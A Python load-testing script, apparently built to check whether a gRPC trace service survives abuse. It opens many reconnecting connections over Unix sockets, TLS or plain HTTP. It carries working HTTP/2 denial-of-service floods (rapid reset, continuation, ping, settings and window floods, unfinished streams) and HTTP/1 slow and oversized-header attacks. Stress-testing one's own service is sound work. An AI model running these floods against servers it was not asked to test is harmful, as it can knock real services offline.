#!/usr/bin/env python3
"""Clients that want to bring a server down: until standard input ends.

    flood_clients.py unix PATH UID GID CONNECTIONS     as this user
    flood_clients.py tls HOST PORT CA CERT KEY CONNECTIONS
    flood_clients.py http HOST PORT CONNECTIONS

Each connection sends one kind of flood as fast as it is taken, half of them without reading. One that is closed is
opened again. Prints at the end what was sent, as JSON.
"""

import errno
import itertools
import json
import os
import selectors
import socket
import ssl
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK = 64 << 10
AGAIN_S = 0.05  # before a closed connection is opened again
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    """RFC 9113, section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    return bytes([len(value)]) + value.encode()


def call_headers(method):
    """RFC 7541: a POST over http, with literals that no table remembers."""
    return (b"\x83\x86\x04" + text(f"/swaptrail.v1.TraceService/{method}") + b"\x01" + text("x") + b"\x0f\x10" +
            text("application/grpc") + b"\x00" + text("te") + text("trailers"))


EMPTY = bytes(5)  # a message without fields


def call(stream, method, *more):
    return frame(1, END_HEADERS, stream, call_headers(method)) + b"".join(more)


# What is sent in round N, by name.
HTTP2 = {
    "ping": lambda n: frame(6, 0, 0, b"01234567"),
    "settings": lambda n: frame(4, 0, 0, b"\x00\x04" + (0x7fffffff if n % 2 else 0).to_bytes(4, "big")),
    "window": lambda n: frame(8, 0, 0, (1).to_bytes(4, "big")),
    "rapid reset": lambda n: call(2 * n + 1, "ListLifecycles", frame(0, END_STREAM, 2 * n + 1, EMPTY),
                                  frame(3, 0, 2 * n + 1, (8).to_bytes(4, "big"))),
    "lists": lambda n: call(2 * n + 1, "ListLifecycles", frame(0, END_STREAM, 2 * n + 1, EMPTY)),
    "watches": lambda n: call(2 * n + 1, "WatchLifecycles", frame(0, END_STREAM, 2 * n + 1, EMPTY)),
    "no end": lambda n: call(2 * n + 1, "GetStatus", frame(0, 0, 2 * n + 1, EMPTY[:3])),
    "continuation": lambda n: frame(9, 0, 1, b"\x00\x01y" + text("z" * 100)) if n else frame(1, 0, 1),
    "noise": lambda n: os.urandom(512),
}
HTTP1 = {
    "scrapes": lambda n: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
    "headers": lambda n: b"GET / HTTP/1.1\r\nHost: x\r\n" if n == 0 else b"X-Y: " + b"z" * 1000 + b"\r\n",
    "slow": lambda n: b"G" if n == 0 else b"",
    "noise": lambda n: os.urandom(512),
}


class Connection:
    def __init__(self, connect, name, kind, reads, greeting):
        self.connect, self.name, self.kind, self.reads, self.greeting = connect, name, kind, reads, greeting
        self.socket, self.again = None, 0.0

    def open(self):
        self.round, self.waiting = itertools.count(), bytearray(self.greeting)
        try:
            self.socket = self.connect()
            self.socket.setblocking(False)
        except OSError:
            self.socket = None
        return self.socket

    def close(self):
        self.socket.close()
        self.socket, self.again = None, time.monotonic() + AGAIN_S

    def go_on(self):
        """Bytes that were sent; None: it was closed."""
        while len(self.waiting) < CHUNK:
            more = self.kind(next(self.round))
            if not more:
                break
            self.waiting += more
        try:
            sent = self.socket.send(self.waiting) if self.waiting else 0
            del self.waiting[:sent]
            if self.reads and self.socket.recv(CHUNK) == b"":
                return None
            return sent
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return 0
        except OSError as error:
            return 0 if error.errno == errno.EAGAIN else None


def unix(path, uid, gid):
    os.setgroups([])
    os.setresgid(*3 * [int(gid)])
    os.setresuid(*3 * [int(uid)])

    def connect():
        made = socket.socket(socket.AF_UNIX)
        made.connect(path)
        return made
    return connect


def tcp(host, port):
    return lambda: socket.create_connection((host, int(port)), timeout=5)


def tls(host, port, ca, cert, key):
    context = ssl.create_default_context(cafile=ca)
    context.check_hostname = False
    context.load_cert_chain(cert, key)
    context.set_alpn_protocols(["h2"])
    return lambda: context.wrap_socket(tcp(host, port)())


def run(connections):
    """Until standard input ends. Returns bytes by kind, and how often one was closed."""
    sent = dict.fromkeys((connection.name for connection in connections), 0)
    closed = dict.fromkeys(sent, 0)
    selector = selectors.DefaultSelector()
    selector.register(sys.stdin, selectors.EVENT_READ)
    while True:
        now = time.monotonic()
        for connection in connections:
            if connection.socket is None and now >= connection.again:
                if connection.open():
                    events = selectors.EVENT_WRITE | (selectors.EVENT_READ if connection.reads else 0)
                    selector.register(connection.socket, events, connection)
                else:
                    connection.again = now + AGAIN_S
        for key, _ in selector.select(AGAIN_S):
            if key.data is None:
                return sent, closed
            count = key.data.go_on()
            if count is None:
                selector.unregister(key.data.socket)
                key.data.close()
                closed[key.data.name] += 1
            else:
                sent[key.data.name] += count


def main():
    kind, *where, count = sys.argv[1:]
    connect = {"unix": unix, "tls": tls, "http": tcp}[kind](*where)
    kinds = HTTP1 if kind == "http" else HTTP2
    greeting = b"" if kind == "http" else PREFACE + frame(4, 0, 0)
    names = itertools.cycle(kinds)
    connections = [Connection(connect, name, kinds[name], number % 2 == 0, greeting)
                   for number, name in zip(range(int(count)), names)]
    sent, closed = run(connections)
    json.dump({"sent": sent, "closed": closed}, sys.stdout)


if __name__ == "__main__":
    main()
